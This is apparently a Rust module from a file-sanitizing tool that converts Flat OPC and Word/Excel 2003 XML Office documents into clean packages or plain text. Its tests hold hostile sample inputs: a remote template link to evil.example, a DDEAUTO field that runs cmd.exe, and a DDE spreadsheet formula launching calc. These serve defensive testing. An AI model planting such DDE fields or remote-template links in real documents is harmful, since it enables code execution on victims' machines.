//! Office documents that arrive as one XML file, which Word, Excel and PowerPoint open as
//! documents whatever their name (`<?mso-application progid="Word.Document"?>`, or their root
//! element): never delivered as text.
//!
//! - **Flat OPC** (`pkg:package`, the "Word/Excel/PowerPoint XML Document" formats): every
//!   `pkg:part` is unpacked into a real OOXML package (XML parts as they are, `pkg:binaryData`
//!   decoded from base64), which the OOXML sanitizer then rebuilds as usual: embedded OLE
//!   objects, macros, external relationships and DDE go exactly as in a `.docx`. Delivered as
//!   `.docx`/`.xlsx`/`.pptx` (`converted`, `office.flat_xml`).
//! - **Word 2003 XML** and **Excel 2003 XML** (SpreadsheetML): no OOXML rebuild exists for these
//!   dialects and LibreOffice is not always present, so they are reduced to their text
//!   (paragraphs; one tab-separated line per row, one section per sheet), links following the
//!   link policy. `w:binData` (where `oledata.mso` and images hide), formulas (`ss:Formula`,
//!   where DDE hides), field codes and hyperlink targets are never read. Delivered as `.txt`
//!   (`converted_to_text`, `office.xml_2003`).
//!
//! The XML is read with the same bounded, DTD-free reader as every Office part, and each
//! unpacked part is charged to the decoded-bytes budget.

use quick_xml::events::Event;

use crate::error::SanitizeError;
use crate::formats::office::PackageWriter;
use crate::formats::office::xml::{self, Guard};
use crate::formats::ooxml;
use crate::pipeline::{Context, Rebuilt};
use crate::report::{Action, Kind};
use crate::sniff::OfficeXml;
use crate::threats;

/// Sanitizes an Office XML document of the given dialect.
pub(crate) fn sanitize(
    input: &[u8],
    dialect: OfficeXml,
    cx: &mut Context<'_>,
) -> Result<Rebuilt, SanitizeError> {
    match dialect {
        OfficeXml::FlatOpc => {
            let package = unpack_flat_opc(input, cx)?;
            let rebuilt = ooxml::rebuild(&package, cx)?;
            let ext = match rebuilt.mime.as_str() {
                m if m.contains("spreadsheetml") => "xlsx",
                m if m.contains("presentationml") => "pptx",
                _ => "docx",
            };
            let reason = format!(
                "Flat OPC XML document unpacked into a .{ext} package, then {}",
                rebuilt.reason
            );
            let mut out = rebuilt;
            out.action = Action::Converted;
            Ok(out
                .with_extension(ext)
                .with_threats([threats::OFFICE_FLAT_XML])
                .with_reason(reason)
                .with_detail(serde_json::json!({"converted_to": ext})))
        }
        OfficeXml::Word2003 | OfficeXml::Excel2003 => {
            let deadline = cx.budget().deadline();
            let (text, what) = if dialect == OfficeXml::Word2003 {
                (word2003_text(input, deadline)?, "Word 2003 XML document")
            } else {
                (
                    excel2003_text(input, deadline)?,
                    "Excel 2003 XML spreadsheet",
                )
            };
            let mode = cx.policy().links.mode;
            let (text, links) = crate::links::rewrite_links_in_text(&text, mode);
            let mut found = vec![threats::OFFICE_XML_2003];
            if links > 0 {
                found.push(threats::LINK_REWRITTEN);
            }
            let mut bytes = Vec::with_capacity(text.len() + 3);
            bytes.extend_from_slice(&[0xEF, 0xBB, 0xBF]);
            bytes.extend_from_slice(text.replace('\n', "\r\n").as_bytes());
            Ok(Rebuilt::new(
                bytes,
                Action::ConvertedToText,
                Kind::Text,
                "text/plain; charset=utf-8",
            )
            .with_extension("txt")
            .with_threats(found)
            .with_reason(format!(
                "{what} reduced to its text (embedded data, formulas, fields and \
                         link targets are not carried over)"
            )))
        }
    }
}

/// Decodes standard base64, skipping white space; `None` on any other byte.
fn base64_decode(text: &[u8]) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(text.len() / 4 * 3);
    let mut acc: u32 = 0;
    let mut bits = 0u32;
    for &c in text {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            b'=' | b' ' | b'\t' | b'\r' | b'\n' => continue,
            _ => return None,
        };
        acc = (acc << 6) | u32::from(v);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push(((acc >> bits) & 0xFF) as u8);
        }
    }
    Some(out)
}

/// One part of a Flat OPC document.
struct FlatPart {
    name: String,
    content_type: String,
    bytes: Vec<u8>,
}

/// Turns a Flat OPC document into an OOXML (ZIP) package.
fn unpack_flat_opc(input: &[u8], cx: &mut Context<'_>) -> Result<Vec<u8>, SanitizeError> {
    let deadline = cx.budget().deadline();
    let max_parts = cx.budget().limits().max_parts;
    let mut r = xml::reader(input);
    let mut g = Guard::new("Flat OPC document", deadline);
    let mut parts: Vec<FlatPart> = Vec::new();
    let mut current: Option<(String, String)> = None;
    loop {
        let ev = r.read_event().map_err(|e| g.err(e))?;
        g.check(&ev)?;
        match &ev {
            Event::Start(e) | Event::Empty(e) => match xml::local(e.name().as_ref()) {
                b"part" => {
                    let name = xml::attr(e, b"name")?;
                    let ct = xml::attr(e, b"contentType")?.unwrap_or_default();
                    current = name.map(|n| (n, ct));
                }
                b"xmlData" | b"binaryData" if matches!(ev, Event::Start(_)) => {
                    let binary = xml::local(e.name().as_ref()) == b"binaryData";
                    let span = r.read_to_end(e.name()).map_err(|err| g.err(err))?;
                    g.check(&Event::End(quick_xml::events::BytesEnd::new("")))?;
                    let (start, end) = (
                        usize::try_from(span.start).unwrap_or(usize::MAX),
                        usize::try_from(span.end).unwrap_or(usize::MAX),
                    );
                    let inner = input.get(start..end).ok_or_else(|| {
                        SanitizeError::Malformed("Flat OPC part out of range".into())
                    })?;
                    let Some((name, ct)) = current.take() else {
                        continue;
                    };
                    let bytes = if binary {
                        base64_decode(inner).ok_or_else(|| {
                            SanitizeError::Malformed(format!(
                                "Flat OPC part {name}: invalid base64"
                            ))
                        })?
                    } else {
                        let mut b =
                            b"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n"
                                .to_vec();
                        b.extend_from_slice(inner.trim_ascii());
                        b
                    };
                    cx.budget().charge_decoded(bytes.len() as u64)?;
                    if parts.len() as u64 >= u64::from(max_parts) {
                        return Err(SanitizeError::limit(
                            crate::limits::LimitKind::Parts,
                            format!("Flat OPC document has more than {max_parts} parts"),
                        ));
                    }
                    let name = name.trim_start_matches('/').to_owned();
                    parts.push(FlatPart {
                        name,
                        content_type: ct,
                        bytes,
                    });
                }
                _ => {}
            },
            Event::Eof => break,
            _ => {}
        }
    }
    if parts.is_empty() {
        return Err(SanitizeError::Malformed(
            "Flat OPC document without parts".into(),
        ));
    }
    let mut types = String::from(
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n<Types \
         xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
         <Default Extension=\"rels\" \
         ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
         <Default Extension=\"xml\" ContentType=\"application/xml\"/>",
    );
    for p in &parts {
        if p.name.ends_with(".rels") || p.content_type.is_empty() {
            continue;
        }
        types.push_str(&format!(
            "<Override PartName=\"/{}\" ContentType=\"{}\"/>",
            xml::escape(&p.name),
            xml::escape(&p.content_type)
        ));
    }
    types.push_str("</Types>");
    let mut w = PackageWriter::new();
    w.deflated("[Content_Types].xml", types.as_bytes())?;
    for p in &parts {
        if p.name.eq_ignore_ascii_case("[Content_Types].xml") {
            continue;
        }
        w.deflated(&p.name, &p.bytes)?;
    }
    w.finish()
}

/// Whether an element (by local name) holds data that is never read as text.
fn skipped(local: &[u8]) -> bool {
    matches!(
        local,
        b"binData" | b"instrText" | b"delText" | b"docPr" | b"DocumentProperties" | b"script"
    )
}

/// The text of a Word 2003 XML document: `w:t` runs, paragraphs on their own lines.
fn word2003_text(input: &[u8], deadline: std::time::Instant) -> Result<String, SanitizeError> {
    let mut r = xml::reader(input);
    let mut g = Guard::new("Word 2003 XML document", deadline);
    let mut out = String::new();
    let mut in_t = false;
    loop {
        let ev = r.read_event().map_err(|e| g.err(e))?;
        g.check(&ev)?;
        match &ev {
            Event::Start(e) => {
                let qn = e.name();
                let ln = xml::local(qn.as_ref());
                if skipped(ln) {
                    r.read_to_end(e.name()).map_err(|err| g.err(err))?;
                    g.check(&Event::End(quick_xml::events::BytesEnd::new("")))?;
                } else if ln == b"t" {
                    in_t = true;
                }
            }
            Event::Empty(e) => match xml::local(e.name().as_ref()) {
                b"tab" => out.push('\t'),
                b"br" | b"cr" => out.push('\n'),
                _ => {}
            },
            Event::End(e) => match xml::local(e.name().as_ref()) {
                b"t" => in_t = false,
                b"p" => out.push('\n'),
                _ => {}
            },
            Event::Text(_) | Event::GeneralRef(_) | Event::CData(_) if in_t => {
                out.push_str(&xml::event_text(&ev)?);
            }
            Event::Eof => break,
            _ => {}
        }
    }
    Ok(out)
}

/// The text of an Excel 2003 XML spreadsheet: one `[sheet name]` section per worksheet, one
/// tab-separated line per row, cell values only.
fn excel2003_text(input: &[u8], deadline: std::time::Instant) -> Result<String, SanitizeError> {
    let mut r = xml::reader(input);
    let mut g = Guard::new("Excel 2003 XML spreadsheet", deadline);
    let mut out = String::new();
    let mut in_data = false;
    let mut first_cell = true;
    loop {
        let ev = r.read_event().map_err(|e| g.err(e))?;
        g.check(&ev)?;
        match &ev {
            Event::Start(e) | Event::Empty(e) => {
                let qn = e.name();
                let ln = xml::local(qn.as_ref());
                match ln {
                    b"Worksheet" => {
                        let name = xml::attr(e, b"Name")?.unwrap_or_default();
                        if !out.is_empty() {
                            out.push('\n');
                        }
                        out.push_str(&format!("[{name}]\n"));
                    }
                    b"Row" => first_cell = true,
                    b"Cell" => {
                        if !first_cell {
                            out.push('\t');
                        }
                        first_cell = false;
                    }
                    b"Data" => in_data = matches!(ev, Event::Start(_)),
                    _ if skipped(ln) && matches!(ev, Event::Start(_)) => {
                        r.read_to_end(e.name()).map_err(|err| g.err(err))?;
                        g.check(&Event::End(quick_xml::events::BytesEnd::new("")))?;
                    }
                    _ => {}
                }
            }
            Event::End(e) => match xml::local(e.name().as_ref()) {
                b"Data" => in_data = false,
                b"Row" => out.push('\n'),
                _ => {}
            },
            Event::Text(_) | Event::GeneralRef(_) | Event::CData(_) if in_data => {
                let t = xml::event_text(&ev)?;
                out.push_str(&t.replace(['\t', '\r', '\n'], " "));
            }
            Event::Eof => break,
            _ => {}
        }
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use crate::policy::Policy;
    use crate::{Kind, Verdict, sanitize_file};

    const W: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";

    /// A Flat OPC Word document carrying an OLE object, a macro project and a remote template.
    fn flat_opc() -> String {
        format!(
            r#"<?xml version="1.0" standalone="yes"?>
<?mso-application progid="Word.Document"?>
<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">
<pkg:part pkg:name="/_rels/.rels" pkg:contentType="application/vnd.openxmlformats-package.relationships+xml"><pkg:xmlData><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships></pkg:xmlData></pkg:part>
<pkg:part pkg:name="/word/_rels/document.xml.rels" pkg:contentType="application/vnd.openxmlformats-package.relationships+xml"><pkg:xmlData><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="embeddings/oleObject1.bin"/><Relationship Id="rId6" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships></pkg:xmlData></pkg:part>
<pkg:part pkg:name="/word/document.xml" pkg:contentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"><pkg:xmlData><w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>議事録 本文</w:t></w:r></w:p></w:body></w:document></pkg:xmlData></pkg:part>
<pkg:part pkg:name="/word/embeddings/oleObject1.bin" pkg:contentType="application/vnd.openxmlformats-officedocument.oleObject" pkg:compression="store"><pkg:binaryData>0M8R4KGxGuEAAAAAAAAAAAAAAAAAAAAA</pkg:binaryData></pkg:part>
</pkg:package>"#
        )
    }

    #[test]
    fn flat_opc_becomes_a_clean_docx() {
        let out = sanitize_file(
            flat_opc().as_bytes(),
            Some("議事録.xml"),
            &Policy::default(),
        );
        assert_eq!(out.report.verdict, Verdict::Sanitized, "{:?}", out.report);
        let threats = out.report.threats();
        for t in [
            "office.flat_xml",
            "ooxml.ole_object",
            "ooxml.attached_template",
        ] {
            assert!(threats.contains(&t), "{t}: {:?}", out.report);
        }
        let file = out.output.unwrap();
        assert_eq!(file.name, "議事録.docx");
        assert_eq!(file.kind, Kind::Ooxml);
        let bytes = file.bytes.as_slice();
        assert!(bytes.starts_with(b"PK"));
        let pkg = crate::formats::office::Package::read(
            bytes,
            &mut crate::limits::Budget::new(&crate::limits::Limits::default()),
        )
        .unwrap();
        assert!(pkg.get("word/embeddings/oleObject1.bin").is_none());
        let doc = String::from_utf8(pkg.get("word/document.xml").unwrap().bytes.clone()).unwrap();
        assert!(doc.contains("議事録 本文"));
    }

    #[test]
    fn word_2003_xml_is_reduced_to_text() {
        let doc = r#"<?xml version="1.0"?><?mso-application progid="Word.Document"?>
<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body>
<w:p><w:r><w:t>予算案</w:t></w:r><w:r><w:tab/><w:t>http://evil.example/a</w:t></w:r></w:p>
<w:p><w:r><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r></w:p>
<w:binData w:name="oledata.mso">0M8R4KGxGuEAAAAA</w:binData>
</w:body></w:wordDocument>"#;
        let out = sanitize_file(doc.as_bytes(), Some("予算.doc"), &Policy::default());
        assert_eq!(out.report.verdict, Verdict::Sanitized, "{:?}", out.report);
        assert!(out.report.threats().contains(&"office.xml_2003"));
        let file = out.output.unwrap();
        assert_eq!(file.name, "予算.txt");
        let text = String::from_utf8(file.bytes.into_vec()).unwrap();
        assert!(text.contains("予算案\thxxp://evil[.]example/a"), "{text}");
        assert!(!text.contains("DDE") && !text.contains("0M8R"), "{text}");
    }

    #[test]
    fn spreadsheetml_with_dde_is_reduced_to_values() {
        let doc = r#"<?xml version="1.0"?>
<?mso-application progid="Excel.Sheet"?>
<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">
<Worksheet ss:Name="集計"><Table><Row><Cell><Data ss:Type="String">件数</Data></Cell><Cell ss:Formula="=cmd|'/c calc.exe'!A1"><Data ss:Type="Number">3</Data></Cell></Row></Table></Worksheet>
</Workbook>"#;
        let out = sanitize_file(doc.as_bytes(), Some("集計.xls"), &Policy::default());
        assert_eq!(out.report.verdict, Verdict::Sanitized, "{:?}", out.report);
        let file = out.output.unwrap();
        assert_eq!(file.kind, Kind::Text);
        let text = String::from_utf8(file.bytes.into_vec()).unwrap();
        assert!(text.contains("[集計]\r\n件数\t3\r\n"), "{text:?}");
        assert!(!text.contains("cmd"), "{text}");
    }

    #[test]
    fn base64_decodes_and_refuses_junk() {
        assert_eq!(super::base64_decode(b"aGVs\r\nbG8=").unwrap(), b"hello");
        assert!(super::base64_decode(b"aGVs*").is_none());
    }
}
